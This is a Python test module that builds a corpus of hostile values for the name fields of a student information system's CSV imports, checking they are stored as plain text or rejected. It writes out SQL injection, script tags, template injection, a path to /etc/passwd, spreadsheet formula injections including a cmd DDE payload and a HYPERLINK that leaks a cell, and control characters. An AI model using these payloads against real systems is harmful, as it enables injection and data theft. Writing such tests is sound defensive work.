"""Texts that would do harm where they were run, shown or opened: in a name they are text and nothing else."""

from tests.hostile.mutations import CANARY, Content, Corpus, Good

CORPUS = Corpus()

for name, text, what in (
    ("sql_injection", f"Robert'); drop table raw.sis__students; -- {CANARY}", "SQL in a name."),
    ("sql_placeholders", "%(name)s %s {batch} {night} $1 :x", "What databases and templates would replace."),
    ("script_tags", f"<script>alert('{CANARY}')</script>", "A script for whoever shows the name."),
    ("jinja", "{{ 7 * 7 }} {% raw %}", "A template in a name."),
    ("a_path", "../../../../etc/passwd", "A path for a name."),
    ("emoji", "Zoë 👩‍🏫", "Emoji and accents."),
    ("right_to_left_name", "\u202eevil\u202c שלום", "Marks and letters of the other direction."),
    ("zero_width_name", "Zo\u200be\ufeff", "Characters of no width."),
    ("a_name_of_nan", "NaN", "A name that is a number elsewhere."),
    ("a_name_of_null", "Null", "A name that is none elsewhere."),
    ("a_name_of_a_million_characters", CANARY * (10**6 // 9), "A name of a million characters."),
    ("quotes_in_a_name", 'Zoe "Zo" O\'Neill', "Quotes within quotes."),
    ("a_long_name", CANARY * 20, "A name of a hundred and eighty characters."),
    ("a_formula_name", f"=HYPERLINK(\"http://example.org/?\"&A1,\"{CANARY}\")", "A spreadsheet formula for a name."),
):  # fmt: skip
    CORPUS.cell(name, "equal", "sis.students", "FirstName", text, what)

for name, text, what in (
    ("control_characters", "Zo\x07e\x1b[31m", "A bell and a change of colour."),
    ("copy_terminator_name", "\\.", "The end of a copy into PostgreSQL, for a name."),
    ("copy_null_name", "\\N", "PostgreSQL's sign for nothing."),
    ("line_breaks_in_a_name", f"Zoe\n{CANARY}\r\nMay", "Line breaks within quotes."),
):
    CORPUS.cell(name, "red", "sis.students", "FirstName", text, what, "names_are_on_one_line", "students.csv line 3")

for name, text, what in (
    ("formula_school", "=cmd|' /C calc'!A0", "A spreadsheet formula for a school's name, which is published."),
    ("plus_school", "+1-800 School", "A school's name that a spreadsheet computes."),
    ("at_school", "@SUM(1) School", "A school's name that an old spreadsheet computes."),
    ("script_school", "<script>alert(1)</script>", "A script for a school's name."),
    ("control_characters_school", "Bass\x1b[31m School", "A control character in a school's name."),
    ("spaces_school", "   ", "Three spaces for a school's name."),
):
    CORPUS.cell(name, "red", "sis.schools", "SchoolName", text, what, "names_can_be_shown", "schools.csv line 3")


@CORPUS.red("sis.students", "students.csv", "line 3")
def a_million_characters(good: Good) -> Content:
    """A field of a million characters, more than any number has."""
    return good.with_cell("StudentID", "7" * 10**6)


@CORPUS.red("sis.students", "students.csv", "line 1")
def a_million_characters_in_the_header(good: Good) -> Content:
    """A column's name of a million characters."""
    return good.content.replace(b"Gender", b"Gender" * (10**6 // 6), 1)


@CORPUS.equal("sis.students")
def a_million_characters_in_a_new_column(good: Good) -> Content:
    """A field of a million characters in a column that no contract names."""
    rows = good.rows
    return good.write([[*rows[0], CANARY * (10**6 // 9)], *([*row, ""] for row in rows[1:])], [*good.header, "Notes"])
